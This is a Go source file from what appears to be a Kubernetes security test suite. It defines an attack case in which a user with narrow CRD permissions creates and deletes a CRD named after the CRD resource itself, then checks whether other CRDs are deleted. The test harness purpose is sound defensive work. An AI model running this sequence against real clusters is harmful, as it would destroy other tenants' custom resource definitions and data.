package attack

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"

	rbacv1 "k8s.io/api/rbac/v1"
)

// crds are attacks by authors of CRDs.
var crds = []Attack{{
	ID: "crd-of-crds", What: "delete all CRDs by deleting one's own CRD whose objects have the same keys",
	Run: crdOfCRDs,
}}

// crdOfCRDs creates a CRD for the resource of the CRDs, and deletes it again.
func crdOfCRDs(ctx context.Context, s *Site) (Result, error) {
	site, err := s.Another(ctx) // what it deletes, other attacks need
	if err != nil {
		return Result{}, err
	}
	defer site.Close()
	const victim, own = "victims.attack.example.com", "customresourcedefinitions.apiextensions.k8s.io"
	if err := site.CRD(ctx, crdOf(victim, "Namespaced", "victims", "Victim", "attack.example.com")); err != nil {
		return Result{}, err
	}
	group, resource := []string{"apiextensions.k8s.io"}, []string{"customresourcedefinitions"}
	user, err := site.UserWith(ctx, "author", "",
		rbacv1.PolicyRule{Verbs: []string{"create"}, APIGroups: group, Resources: resource},
		rbacv1.PolicyRule{Verbs: []string{"delete"}, APIGroups: group, Resources: resource, ResourceNames: []string{own}})
	if err != nil {
		return Result{}, err
	}
	const path = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
	code, text, err := user.Do(ctx, http.MethodPost, path, "application/yaml", crdOf(own, "Cluster", "customresourcedefinitions", "Mine", "apiextensions.k8s.io"))
	switch {
	case err != nil:
		return Result{}, err
	case code == http.StatusUnprocessableEntity || code == http.StatusForbidden:
		return Refused("%d at creation", code), nil
	case code != http.StatusCreated:
		return Result{}, fmt.Errorf("creating the CRD: %d: %.300s", code, text)
	}
	time.Sleep(2 * time.Second) // it is established, or never will be
	if code, text, err = user.Do(ctx, http.MethodDelete, path+"/"+own, "", ""); err != nil || code >= http.StatusMultipleChoices {
		return Result{}, fmt.Errorf("deleting the CRD: %d: %.300s: %v", code, text, err)
	}
	for range 20 {
		code, text, err = site.admin.Do(ctx, http.MethodGet, path+"/"+victim, "", "")
		if err != nil {
			return Result{}, err
		}
		if code == http.StatusNotFound || strings.Contains(text, "deletionTimestamp") {
			return Succeeded("another CRD is being deleted"), nil
		}
		time.Sleep(500 * time.Millisecond)
	}
	return Refused("created, deleted, and other CRDs are left"), nil
}

// crdOf is a CRD without a schema worth mentioning.
func crdOf(name, scope, plural, kind, group string) string {
	return fmt.Sprintf(`apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata:
  name: %s
  annotations: {api-approved.kubernetes.io: "unapproved, an experiment", espalier.dev/allow-deletion: "true"}
spec:
  group: %s
  scope: %s
  names: {plural: %s, kind: %s}
  versions:
  - name: v1
    served: true
    storage: true
    schema:
      openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}
`, name, group, scope, plural, kind)
}
